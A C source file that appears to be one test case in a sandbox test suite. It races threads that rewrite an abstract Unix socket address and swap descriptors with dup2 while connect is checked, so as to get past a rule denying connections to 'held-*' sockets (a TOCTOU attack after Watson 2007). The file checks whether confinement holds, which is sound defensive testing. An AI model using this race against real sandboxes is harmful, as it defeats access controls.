// Route: changes an address in memory, and the socket at its number, while connect(2) is judged
// Known from: Watson 2007, Exploiting Concurrency Vulnerabilities in System Call Wrappers (Systrace)
// Grants: {rules: ['deny net/connect @held-*']}
// Refused: EACCES
// Twin: connects to the socket of its own by the same memory
// Unconfined: works
// Worlds: walls
#include "attempt.h"
#include <pthread.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>

static struct sockaddr_un address;
static char good[40], bad[40];
static volatile int over;
static int one, two, moving = 100;

static void *rewrite(void *unused) {
  while (!over) {
    memcpy(address.sun_path + 1, bad, strlen(bad));
    memcpy(address.sun_path + 1, good, strlen(good));
  }
  return unused;
}

static void *exchange(void *unused) {
  while (!over) {
    dup2(one, moving);
    dup2(two, moving);
  }
  return unused;
}

static socklen_t length(void) {
  return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(good));
}

static int leads_to(int socket, const char *name) {
  struct sockaddr_un peer;
  socklen_t size = sizeof peer;
  memset(&peer, 0, sizeof peer);
  return getpeername(socket, (struct sockaddr *)&peer, &size) == 0 && strncmp(peer.sun_path + 1, name, strlen(name)) == 0;
}

static void receive_at(const char *name) {
  int socket_of_name = socket(AF_UNIX, SOCK_DGRAM, 0);
  memcpy(address.sun_path + 1, name, strlen(name));
  bind(socket_of_name, (struct sockaddr *)&address, length());
}

int main(void) {
  pthread_t threads[2];
  int found = -1;
  time_t end = time(NULL) + 5; /* one processor has little time for each turn */
  snprintf(good, sizeof good, "mine-%d", getpid());
  snprintf(bad, sizeof bad, "held-%d", getpid());
  address.sun_family = AF_UNIX;
  receive_at(bad);
  receive_at(good);
  one = socket(AF_UNIX, SOCK_DGRAM, 0);
  two = socket(AF_UNIX, SOCK_DGRAM, 0);
  dup2(one, moving);
  pthread_create(&threads[0], NULL, rewrite, NULL);
  pthread_create(&threads[1], NULL, exchange, NULL);
  for (int i = 0; i < 3000 && time(NULL) < end && found == -1; i++) {
    connect(moving, (struct sockaddr *)&address, length());
    if (leads_to(one, bad) || leads_to(two, bad)) found = 0;
  }
  over = 1;
  pthread_join(threads[0], NULL);
  pthread_join(threads[1], NULL);
  memcpy(address.sun_path + 1, bad, strlen(bad));
  if (found == -1) found = connect(moving, (struct sockaddr *)&address, length());
  attempt(found);
  memcpy(address.sun_path + 1, good, strlen(good));
  twin(connect(moving, (struct sockaddr *)&address, length()));
}
